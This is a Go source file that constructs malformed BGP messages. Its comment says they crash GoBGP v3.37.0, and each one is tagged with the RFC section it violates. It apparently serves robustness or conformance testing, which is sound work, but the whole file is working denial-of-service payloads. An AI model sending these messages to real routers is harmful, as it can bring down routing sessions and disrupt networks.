package raw

import "net/netip"

// Class is a kind of message that should not be sent.
type Class struct {
	Name string
	RFC  string // the section that says so
	// Message is sent once the session is up.
	Message []byte
}

// Killing are messages that panic in GoBGP v3.37.0, in a goroutine of its own. Those with other families need not
// have negotiated them: they are decoded first.
func Killing(asn uint16, hop netip.Addr, prefix netip.Prefix) []Class {
	own := Attribute(WellKnown, ASPath, 2, 1, byte(asn>>8), byte(asn))
	first, hopAttribute, nlri := Attribute(WellKnown, Origin, 0), Attribute(WellKnown, NextHop, hop.AsSlice()...), NLRI(prefix)
	return []Class{
		{"AS4_PATH before AS_PATH", "RFC 6793, section 4.2.3", Update(nil, join(first, hopAttribute,
			Attribute(OptionalTransitive, AS4Path, 2, 1, 0, 0, byte(asn>>8), byte(asn)), own), nlri)},
		{"malformed Prefix-SID", "RFC 9252, section 2", Update(nil, join(first, own, hopAttribute,
			Attribute(OptionalTransitive, PrefixSID, 5, 0, 0, 1)), nlri)},
		{"truncated MP_REACH_NLRI", "RFC 7606, section 5.2", Update(nil, join(first, own,
			Attribute(Optional, MPReach, 0, 1, 1)), nil)},
		{"truncated prefix of a VPN", "RFC 4364, section 4.3.4", Update(nil, Attribute(Optional, MPUnreach, 0, 1, 128, 5), nil)},
		{"truncated flow specification", "RFC 8955, section 4", Update(nil, join(first, own,
			Attribute(Optional, MPReach, 0, 2, 133, 4, 1, 2, 3, 4, 0, 1, 1, 6)), nil)},
		{"truncated VPLS", "RFC 4761, section 3.2.2", Update(nil, join(first, own, Attribute(Optional, MPReach, 0, 25, 65, 0, 0, 0, 0)), nil)},
		{"truncated EVPN route", "RFC 7432, section 7", Update(nil, Attribute(Optional, MPUnreach, 0, 25, 70, 1, 0), nil)},
		{"truncated SR policy", "RFC 9830, section 2.1", Update(nil, Attribute(Optional, MPUnreach, 0, 1, 73, 192), nil)},
		{"unknown type of message", "RFC 4271, section 6.1", Message(9)},
		{"second OPEN", "RFC 4271, section 8.2.2", Open{ASN: asn, HoldTime: 90, ID: hop}.Message()},
	}
}
